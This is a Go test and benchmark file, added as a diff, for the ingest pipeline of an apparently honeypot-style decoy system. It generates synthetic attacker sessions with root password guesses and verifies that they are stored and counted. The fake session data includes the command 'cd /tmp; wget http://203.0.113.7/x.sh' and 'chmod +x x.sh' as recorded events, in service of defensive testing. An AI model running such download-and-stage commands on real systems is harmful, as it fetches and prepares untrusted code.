@@ -1,0 +1,186 @@
+package pipeline
+
+import (
+	"context"
+	"fmt"
+	"path/filepath"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/decnet-go/decnet/internal/bus"
+	"github.com/decnet-go/decnet/internal/event"
+	"github.com/decnet-go/decnet/internal/store"
+)
+
+type rig struct {
+	bus   *bus.Bus
+	store *store.Store
+	w     *Ingest
+	stop  func()
+}
+
+func newRig(tb testing.TB) *rig {
+	tb.Helper()
+	ctx := context.Background()
+	dir := tb.TempDir()
+	b, err := bus.Open(ctx, bus.Options{DataDir: dir})
+	if err != nil {
+		tb.Fatal(err)
+	}
+	st, err := store.Open(ctx, filepath.Join(dir, "decnet.db"))
+	if err != nil {
+		tb.Fatal(err)
+	}
+	cons, err := b.Consumer(ctx, "ingest", event.SubjectAll, 20000)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	w := &Ingest{Source: cons, Store: st}
+	rctx, cancel := context.WithCancel(ctx)
+	var wg sync.WaitGroup
+	wg.Add(1)
+	go func() { defer wg.Done(); w.Run(rctx) }()
+	r := &rig{bus: b, store: st, w: w}
+	r.stop = func() { cancel(); cons.Stop(); wg.Wait(); b.Close(); st.Close() }
+	tb.Cleanup(r.stop)
+	return r
+}
+
+// mix returns n events shaped like a real attack wave: sessions from many
+// sources, each a connect, a few password guesses, commands and a disconnect.
+func mix(n int) []event.Event {
+	out := make([]event.Event, 0, n)
+	for s := 0; len(out) < n; s++ {
+		ip := fmt.Sprintf("198.51.%d.%d", s/250%250, s%250+1)
+		decky := fmt.Sprintf("decky-%02d", s%8+1)
+		svc := []string{"ssh", "http", "ssh", "telnet"}[s%4]
+		sess := event.NewID()
+		mk := func(typ string) event.Event {
+			e := event.New(decky, svc, typ)
+			e.SrcIP, e.SrcPort, e.DstIP, e.DstPort, e.Proto, e.Session = ip, 40000+s%20000, "10.0.0.5", 22, "tcp", sess
+			return e
+		}
+		out = append(out, mk(event.TypeConnect))
+		for i := 0; i < 3; i++ {
+			e := mk(event.TypeLoginAttempt)
+			e.Fields = map[string]any{"username": "root", "method": "password", "client_version": "SSH-2.0-libssh_0.9.6"}
+			e.Credential = event.NewCredential("root", "plaintext", []byte(fmt.Sprintf("pass%d", (s+i)%50)), event.OutcomeFailure)
+			out = append(out, e)
+		}
+		for _, c := range []string{"uname -a", "cat /proc/cpuinfo", "cd /tmp; wget http://203.0.113.7/x.sh", "chmod +x x.sh"} {
+			e := mk(event.TypeCommand)
+			e.Fields = map[string]any{"command": c, "cwd": "/root", "username": "root"}
+			out = append(out, e)
+		}
+		e := mk(event.TypeDisconnect)
+		e.Fields = map[string]any{"duration_s": 12.5, "bytes_in": 913}
+		out = append(out, e)
+	}
+	return out[:n]
+}
+
+func (r *rig) publish(tb testing.TB, events []event.Event) {
+	tb.Helper()
+	for _, e := range events {
+		for tries := 0; ; tries++ {
+			_, err := r.bus.PublishAsync(e)
+			if err == nil {
+				break
+			}
+			if tries > 100 {
+				tb.Fatal(err)
+			}
+			<-r.bus.PublishAsyncComplete() // stalled: let acks catch up
+		}
+	}
+	select {
+	case <-r.bus.PublishAsyncComplete():
+	case <-time.After(time.Minute):
+		tb.Fatal("publish did not complete")
+	}
+}
+
+func (r *rig) waitIngested(tb testing.TB, n int64) {
+	tb.Helper()
+	deadline := time.Now().Add(2 * time.Minute)
+	for r.w.Ingested() < n {
+		if time.Now().After(deadline) {
+			tb.Fatalf("ingested %d of %d", r.w.Ingested(), n)
+		}
+		time.Sleep(time.Millisecond)
+	}
+}
+
+func TestIngestEndToEnd(t *testing.T) {
+	r := newRig(t)
+	events := mix(90) // 10 sessions
+	r.publish(t, events)
+	r.waitIngested(t, int64(len(events)))
+	ctx := context.Background()
+
+	_, total, err := r.store.Events(ctx, store.Page{Limit: 1})
+	if err != nil || total != 90 {
+		t.Fatalf("events total = %d, %v; want 90", total, err)
+	}
+	atk, err := r.store.AttackerByIP(ctx, events[0].SrcIP)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if atk.EventCount != 9 || atk.CredentialCount != 3 || atk.CommandCount != 4 || atk.SessionCount != 1 {
+		t.Errorf("attacker counts = %+v", atk)
+	}
+	sessions, _, _ := r.store.Sessions(ctx, store.Page{Limit: 10, AttackerIP: events[0].SrcIP})
+	if len(sessions) != 1 || sessions[0].EventCount != 9 || sessions[0].EndedAt == nil || sessions[0].CommandCount != 4 {
+		t.Errorf("sessions = %+v", sessions)
+	}
+
+	// Redelivery of the same events (a consumer crash before ack) changes nothing.
+	if _, err := r.store.IngestBatch(ctx, events); err != nil {
+		t.Fatal(err)
+	}
+	again, _ := r.store.AttackerByIP(ctx, events[0].SrcIP)
+	if again.EventCount != atk.EventCount {
+		t.Errorf("redelivery changed event_count %d → %d", atk.EventCount, again.EventCount)
+	}
+	creds, ctotal, _ := r.store.Credentials(ctx, store.Page{Limit: 100})
+	sum := 0
+	for _, c := range creds {
+		sum += c.AttemptCount
+	}
+	if sum != 30 || ctotal == 0 {
+		t.Errorf("credential attempts = %d over %d rows; want 30", sum, ctotal)
+	}
+}
+
+func TestIngestDiscardsInvalid(t *testing.T) {
+	r := newRig(t)
+	bad := event.New("decky-01", "ssh", "connect")
+	bad.SrcIP = "not-an-ip"
+	good := mix(1)
+	if err := r.bus.Publish(context.Background(), bad); err != nil {
+		t.Fatal(err)
+	}
+	r.publish(t, good)
+	r.waitIngested(t, 1)
+	deadline := time.Now().Add(5 * time.Second)
+	for r.w.Discarded() != 1 && time.Now().Before(deadline) {
+		time.Sleep(time.Millisecond)
+	}
+	if r.w.Discarded() != 1 {
+		t.Fatalf("discarded = %d, want 1", r.w.Discarded())
+	}
+}
+
+// BenchmarkIngest measures events through JetStream into SQLite: publish
+// b.N events of a realistic mix, wait until all are committed.
+func BenchmarkIngest(b *testing.B) {
+	r := newRig(b)
+	events := mix(b.N)
+	b.ResetTimer()
+	start := time.Now()
+	r.publish(b, events)
+	r.waitIngested(b, int64(b.N))
+	b.StopTimer()
+	b.ReportMetric(float64(b.N)/time.Since(start).Seconds(), "events/s")
+}
